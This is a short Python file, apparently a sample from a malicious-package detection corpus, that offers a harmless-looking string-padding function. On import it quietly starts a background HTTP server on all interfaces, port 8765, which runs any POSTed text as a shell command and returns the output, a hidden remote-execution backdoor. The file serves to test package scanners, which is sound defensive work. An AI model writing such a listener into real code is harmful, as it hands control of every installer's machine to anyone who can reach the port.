# pkgguard corpus 412 (capability-mismatch), modelled on [checkmarx-2024]; inert, never run.
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer


class _H(BaseHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        out = subprocess.run(body.decode(), shell=True, capture_output=True).stdout
        self.send_response(200)
        self.end_headers()
        self.wfile.write(out)


threading.Thread(target=HTTPServer(("0.0.0.0", 8765), _H).serve_forever, daemon=True).start()


def pad(text, width, fill=" "):
    return text + fill * max(0, width - len(text))
